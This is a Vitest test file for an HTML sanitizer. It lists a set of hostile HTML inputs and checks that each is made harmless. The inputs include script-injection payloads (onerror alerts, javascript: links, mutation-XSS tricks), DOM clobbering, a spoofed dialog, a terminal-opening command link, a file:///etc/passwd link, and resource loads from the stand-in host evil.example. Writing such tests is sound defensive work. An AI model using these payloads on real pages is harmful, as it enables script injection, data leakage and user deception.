import { describe, expect, it, vi } from 'vitest';

import type { Activation } from '../../platform';
import { activate, sanitize } from '../sanitize';

const ACTIVATION: Activation = { loadImage: host => `Load image from ${host}` };

/** The HTML in a document of its own, so that looking at it fetches nothing. */
function parsed(html: string): HTMLElement {
  return new DOMParser().parseFromString(sanitize(html), 'text/html').body;
}

/** Each is something that was tried somewhere: script, network, disguise, links to elsewhere. */
const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="http://evil.example/?q=secret" srcset="http://evil.example/2 2x" style="background:url(http://evil.example)">',
  '<image href="http://evil.example/x.png">',
  '<img src="//evil.example/x.png">',
  '<img src="https:/\\evil.example/x.png">',
  '<img src="\thttp://evil.example/x.png">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<picture><source srcset="http://evil.example/x"><img src="http://evil.example/y"></picture>',
  '<video src="http://evil.example" poster="http://evil.example"></video><audio src="http://evil.example"></audio>',
  '<table background="http://evil.example"><tr><td background="http://evil.example">x</td></tr></table>',
  '<body background="http://evil.example"><p>x',
  '<link rel=stylesheet href=http://evil.example><meta http-equiv=refresh content="0;url=http://evil.example"><base href="http://evil.example">',
  '<style>@import url(http://evil.example); body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(http://evil.example)">x</p>',
  '<script>alert(1)</script><svg><script>alert(1)</script></svg><svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><use href="http://evil.example#x"></use></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="http://evil.example"></object><embed src="http://evil.example">',
  '<math><mrow href="https://evil.example"><mi>x</mi></mrow><mglyph src="http://evil.example/x"></mglyph></math>',
  '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a><a href="java&#10;script:alert(1)">x</a><a href=" &#1;javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:x">x</a><a href="blob:http://x/1">x</a><a href="file:///etc/passwd">x</a>',
  '<a href="/lab?reset" target=_top>x</a><a href="//evil.example">x</a><a href="\\\\evil.example">x</a><a href="#top">x</a>',
  '<a data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}" href="#">x</a>',
  '<button data-commandlinker-command="x" formaction="javascript:alert(1)">x</button>',
  '<form action="http://evil.example" id=f><input name=q><input type=image src="http://evil.example"></form><input form=f type=checkbox autofocus onfocus=alert(1)>',
  '<div id=body name=cookie><img name=getElementById id=documentElement></div><form name=location></form>',
  '<div class="jp-Dialog lm-Widget jp-Postdoc-Card jp-mod-warn" role=alertdialog><p class="jp-Postdoc-Button">Allow</p></div>',
  '<label for="composer">x</label><div popover inert contenteditable slot=a part=b tabindex=0 accesskey=s>x</div>',
  '<details ontoggle=alert(1) open><summary onclick=alert(1)>s</summary>x</details><marquee onstart=alert(1)>x</marquee>',
  '<template><img src=http://evil.example></template><dialog open>x</dialog><map><area href="http://evil.example"></map>',
  '<q cite="http://evil.example">x</q><del cite="javascript:alert(1)">x</del><p is="x-evil">x</p>',
  '<a ping="http://evil.example" href="http://ok.example">x</a>'
];

const TAGS =
  'script,style,iframe,object,embed,link,meta,base,svg,form,button,select,textarea,video,audio,picture,source,dialog,template,map,area,marquee';

describe('hostile HTML', () => {
  it.each(HOSTILE)('can do nothing: %s', html => {
    const body = parsed(html);
    expect(body.querySelector(TAGS)).toBeNull();
    for (const node of body.querySelectorAll('*')) {
      for (const { name, value } of node.attributes) {
        expect(name).not.toMatch(
          /^on|^(?:id|name|style|srcset|background|poster|ping|for|form|role|tabindex)$/
        );
        expect(name).not.toMatch(/commandlinker|popover|xlink/);
        if (name === 'class') {
          expect(value).not.toMatch(/jp-(?!Postdoc-Formula|mod-display)|lm-/);
        }
        if (name === 'src') {
          expect([node.nodeName, value]).toEqual(['IMG', expect.stringMatching(/^data:image\//)]);
        }
        if (name === 'href') {
          expect([node.nodeName, value]).toEqual(['A', expect.stringMatching(/^(?:https?:\/\/|mailto:)/)]);
          expect(node.getAttribute('target')).toBe('_blank');
          expect(node.getAttribute('rel')).toBe('noopener noreferrer');
        }
      }
    }
  });

  it('leaves no address for the browser: nothing is fetched before a click, and then without a referrer', () => {
    const host = parsed('<p>See <img alt="a plot" src="http://evil.example/p.png?q=1"> there</p>');
    expect(host.innerHTML).not.toMatch(/\ssrc=/);
    activate(host, ACTIVATION);
    const button = host.querySelector('button') as HTMLButtonElement;
    expect(button.textContent).toBe('Load image from evil.example (a plot)');
    expect(host.querySelector('img')).toBeNull();
    button.click();
    const img = host.querySelector('img') as HTMLImageElement;
    expect(img.getAttribute('src')).toBe('http://evil.example/p.png?q=1');
    expect(img.referrerPolicy).toBe('no-referrer');
  });
});

describe('honest HTML', () => {
  it('keeps what text is made of', () => {
    const html =
      '<h2>T</h2><p><strong>b</strong> <em>i</em> <code>c</code></p><ul><li><input checked="" disabled="" type="checkbox"> done</li></ul>' +
      '<table><thead><tr><th align="right">n</th></tr></thead><tbody><tr><td align="right">1</td></tr></tbody></table>' +
      '<pre><code class="language-python"><span class="tok-keyword">if</span></code></pre><blockquote><p>q</p></blockquote><hr>';
    expect(sanitize(html)).toBe(html);
    expect(sanitize('<p class="cm-tooltip cm-panels-top ͼ1">x</p>')).toBe('<p class="ͼ1">x</p>');
    expect(sanitize('<math><mi>x</mi></math>')).toBe('<math><mi>x</mi></math>');
    expect(sanitize('<img src="data:image/png;base64,AAAA" alt="p">')).toContain(
      'src="data:image/png;base64,AAAA"'
    );
  });

  it('opens web links in a new tab, and files of the project where there is a place for that', () => {
    const open = vi.fn();
    const host = parsed(
      '<a href="https://doi.example/10.1">web</a> <a href="reports/a%20b.html#top">file</a>'
    );
    activate(host, { ...ACTIVATION, openPath: open });
    const [web, file] = host.querySelectorAll('a');
    expect(web?.getAttribute('href')).toBe('https://doi.example/10.1');
    file?.click();
    file?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter' }));
    expect(open.mock.calls).toEqual([['reports/a b.html'], ['reports/a b.html']]);
  });

  it('shows a file link as text where nothing opens it', () => {
    const host = parsed('<p>see <a href="a.md">the <b>file</b></a></p>');
    activate(host, ACTIVATION);
    expect(host.innerHTML).toBe('<p>see the <b>file</b></p>');
  });
});
